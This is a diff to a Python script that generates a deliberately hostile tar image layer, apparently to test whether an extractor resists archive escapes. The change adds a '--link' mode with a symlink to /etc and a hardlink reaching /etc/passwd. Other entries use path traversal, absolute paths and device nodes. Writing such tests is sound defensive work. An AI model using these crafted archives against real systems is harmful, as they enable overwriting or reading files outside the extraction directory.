@@ -1,4 +1,4 @@
-"""Adds a layer that no honest tool makes: hostile_layer.py LAYOUT TAG VICTIM | --device"""
+"""Adds a layer that no honest tool makes: hostile_layer.py LAYOUT TAG VICTIM | --device | --link"""
 import hashlib
 import io
 import json
@@ -34,6 +34,10 @@ def entries():
         yield entry("srv/mem", tarfile.CHRTYPE, devmajor=1, devminor=1)
         yield entry("srv/disk", tarfile.BLKTYPE, devmajor=254, devminor=0)
         return
+    if what == "--link":
+        yield entry("srv/link", tarfile.SYMTYPE, linkname="/etc")
+        yield entry("hard", tarfile.LNKTYPE, linkname="srv/link/../../../../../../../etc/passwd")
+        return
     out = os.path.join(what, "out")
     yield entry("../../../../../../../../../tmp/stremio-escaped", text=b"x")
     yield entry("/stremio-escaped-absolute", text=b"x")
@@ -43,7 +47,6 @@ def entries():
         yield entry(name + "/" + os.path.basename(out), text=b"x")
     yield entry("srv/up", tarfile.SYMTYPE, linkname="../../../../../../../../.." + what)
     yield entry("srv/up/climbed", text=b"x")
-    yield entry("hard", tarfile.LNKTYPE, linkname="srv/link/../../../../../../../../etc/passwd")
 
 
 data = io.BytesIO()
